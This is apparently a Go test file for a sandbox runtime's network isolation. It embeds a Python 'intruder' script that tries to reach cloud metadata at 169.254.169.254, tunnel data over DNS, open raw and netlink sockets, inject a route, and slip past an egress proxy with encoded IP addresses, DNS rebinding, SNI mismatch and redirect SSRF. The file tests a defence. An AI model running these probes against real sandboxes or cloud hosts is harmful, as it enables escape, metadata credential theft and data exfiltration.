package network

import (
	"fmt"
	"net"
	"strings"
	"testing"

	"yoi.dev/yoi-runtime/policy"
	"yoi.dev/yoi-runtime/runtime"
	"yoi.dev/yoi-runtime/tests/internal/rig"
)

// intruder tries every way out that is not the proxy, and then the proxy. Each line
// says what it could do.
const intruder = `
import os; os.dup2(1,2)
import functools, socket, ssl, struct, sys, time; print = functools.partial(print, flush=True); T0 = time.time()
def tried(what, f):
    try:
        r = f()
        print(what, "REACHED", repr(r)[:60] if r is not None else "")
    except Exception as e:
        print(what, "no:", type(e).__name__, int(time.time() - T0))
def tcp(host, port):
    s = socket.create_connection((host, port), 3); s.settimeout(3); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); return s.recv(100)
for what, host, port in [("server", "11.0.0.2", 443), ("metadata", "169.254.169.254", 80), ("private", "10.0.0.5", 80), ("host", "11.0.0.1", HOSTPORT), ("host loopback", "127.0.0.1", HOSTPORT), ("v6 loopback", "::1", HOSTPORT)]:
    tried("direct " + what, lambda: tcp(host, port))
def udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4leak\4test\0\0\1\0\1", (host, 53)); return s.recv(512)
tried("dns to the name server", lambda: udp("11.0.0.53"))
tried("dns to loopback", lambda: udp("127.0.0.1"))
tried("dns by the C library", lambda: socket.getaddrinfo("secret.leak.test", 80))
for name, fam, kind, proto in [("raw", socket.AF_INET, socket.SOCK_RAW, 1), ("packet", 17, socket.SOCK_RAW, 0), ("vsock", 40, socket.SOCK_STREAM, 0), ("netfilter", 16, socket.SOCK_RAW, 12), ("alg", 38, socket.SOCK_SEQPACKET, 0)]:
    tried("socket " + name, lambda: socket.socket(fam, kind, proto))
def route():
    s = socket.socket(16, socket.SOCK_RAW, 0); s.settimeout(3)
    # RTM_NEWROUTE of 11.0.0.0/24 over lo
    m = struct.pack("=IHHII", 44, 24, 0x505, 1, 0) + struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HH4s", 8, 1, bytes([11,0,0,0])) + struct.pack("=HHI", 8, 4, 1)
    s.send(m); r = s.recv(4096)
    if struct.unpack("=i", r[16:20])[0] != 0: raise OSError("refused")
tried("a route", route)
def abstract():
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect("\0ABSTRACT"); return s.recv(10)
tried("abstract socket", abstract)
def proxy(text, more=b""):
    s = socket.create_connection(("127.0.0.1", 61080), 5); s.settimeout(5)
    s.sendall(text.encode("latin1")); r = s.recv(400)
    if more and b" 200 " in r: s.sendall(more); r = s.recv(400)
    if b" 200 " not in r or b"Connection established" in r and not more: raise OSError(r[:40])
    return r
def get(host, port=80): return proxy("GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n" % (host, port, host, port))
for h in ["169.254.169.254", "127.0.0.1", "11.0.0.1", "11.0.0.2", "10.0.0.5", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]",
          "metadata.test", "loopback.test", "self.test", "mapped.test", "other.example", "web.example.other.example", "xn--.example"]:
    tried("proxy " + h, lambda: get(h))
for _ in range(3): tried("proxy rebind", lambda: get("rebind.test"))
tried("proxy host port", lambda: proxy("GET http://loopback.test:HOSTPORT/ HTTP/1.1\r\nHost: loopback.test:HOSTPORT\r\n\r\n"))
def sni(connect, name):
    s = socket.create_connection(("127.0.0.1", 61080), 5); s.settimeout(5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n" % connect).encode()); s.recv(400)
    c = ssl._create_unverified_context(); t = c.wrap_socket(s, server_hostname=name)
    t.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % name).encode()); return t.recv(100)
tried("sni", lambda: sni("web.example:443", "other.example"))
tried("no sni", lambda: sni("web.example:443", None))
for fd in os.listdir("/proc/self/fd"):
    try:
        if "socket" in os.readlink("/proc/self/fd/" + fd): print("descriptor", fd, "REACHED")
    except OSError: pass
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            c = open("/proc/%s/cmdline" % p).read()
            if c.startswith("/yoi-egress"): print("process REACHED", c)
        except OSError: pass
import urllib.request
os.environ["no_proxy"] = ""
tried("honest", lambda: urllib.request.urlopen("http://web.example/").read())
for to in ["http://169.254.169.254/", "http://127.0.0.1:HOSTPORT/", "http://other.example/"]:
    tried("redirect", lambda: urllib.request.urlopen("http://web.example/redirect?to=" + to).read())
`

func TestAttackAllowlist(t *testing.T) {
	for _, uid := range []int{0, rig.Ordinary} {
		for _, mode := range [][]string{nil, {"--transparent"}} {
			t.Run(fmt.Sprint(uid, mode), func(t *testing.T) {
				w := newWorker(t, uid)
				o := needOutside(t)
				// A service of the host's on every address of it, and an abstract socket.
				l, err := net.Listen("tcp", ":0")
				if err != nil {
					t.Fatal(err)
				}
				defer l.Close()
				abstract := fmt.Sprintf("yoi-attack-%d", uid)
				ul, err := net.Listen("unix", "@"+abstract)
				if err != nil {
					t.Fatal(err)
				}
				defer ul.Close()
				for _, l := range []net.Listener{l, ul} {
					go func() {
						for {
							c, err := l.Accept()
							if err != nil {
								return
							}
							fmt.Fprint(c, "HTTP/1.0 200 OK\r\n\r\nthe host itself")
							c.Close()
						}
					}()
				}
				port := fmt.Sprint(l.Addr().(*net.TCPAddr).Port)
				o.mu.Lock()
				o.asks, o.seen, o.next = nil, nil, map[string]int{}
				o.mu.Unlock()
				script := strings.NewReplacer("HOSTPORT", port, "ABSTRACT", abstract).Replace(intruder)
				args := w.args("", append(mode, "--allow", "loopback.test:"+port)...)
				args = append(args[:len(args)-3], "/usr/bin/python3", "-c", script)
				r := w.yoi.Run(t, args...).Want(t, 0)
				for line := range strings.Lines(r.Stdout) {
					if strings.Contains(line, "REACHED") && !strings.HasPrefix(line, "honest ") {
						t.Errorf("it could: %s", line)
					}
				}
				if !strings.Contains(r.Stdout, "honest REACHED") || strings.Count(r.Stdout, " no: ") < 40 {
					t.Errorf("the attack did not run: %s", r.Stdout)
				}
				if strings.Contains(o.names(), "leak.test") {
					t.Errorf("DNS is a channel: %s", o.names())
				}
				for _, s := range o.requests() {
					if s != "http web.example /" && s != "http web.example /redirect" {
						t.Errorf("outside saw %q", s)
					}
				}
				if r.Diagnostic() != "" && !strings.Contains(r.Stderr, string(policy.CodeEgressRefused)) {
					t.Errorf("stderr: %s", r.Stderr)
				}
			})
		}
	}
}

// Without an allowlist there is no proxy, and rules of the API's callers reach the
// host and its neighbours only if the operator says so.
func TestAttackRules(t *testing.T) {
	w := newWorker(t, 0)
	r := w.yoi.Run(t, "run", "--repo", w.repo, "--", "/usr/bin/python3", "-c", `import socket
try: socket.create_connection(("127.0.0.1", 61080), 2); print("REACHED")
except OSError as e: print("no")`).Want(t, 0)
	if strings.TrimSpace(r.Stdout) != "no" {
		t.Errorf("%q", r.Stdout)
	}
	for _, rule := range []string{"127.1:80", "аррӏе.example:443", "http://x:1", "*:443"} {
		w.yoi.Run(t, "run", "--repo", w.repo, "--allow", rule, "--", "true").Refused(t, 125, policy.CodeNetworkRuleInvalid)
	}
	w.yoi.Run(t, "run", "--repo", w.repo, "--network", "host", "--allow", "a.example:443", "--", "true").Refused(t, 125, policy.CodePolicyInvalid)
}

// The evidence says what was asked for and what was used.
func TestEvidence(t *testing.T) {
	w := newWorker(t, 0)
	r := w.yoi.Run(t, w.args(`curl -sS http://web.example/; curl -sS http://other.example/`, "--json")...).Want(t, 0)
	var ev runtime.Evidence
	r.JSON(t, &ev)
	n := ev.Workers[0].Network
	if n == nil || n.Allowed != 1 || n.Refused != 1 || n.BytesIn == 0 || n.BytesOut == 0 {
		t.Fatalf("%+v", n)
	}
	for _, u := range n.Rules {
		if (u.Allowed == 1) != (u.Rule == "web.example:80") {
			t.Errorf("%+v", u)
		}
	}
	if !strings.Contains(r.Stderr, "other.example:80 (no_rule)") {
		t.Errorf("the refusal is not told: %s", r.Stderr)
	}
}
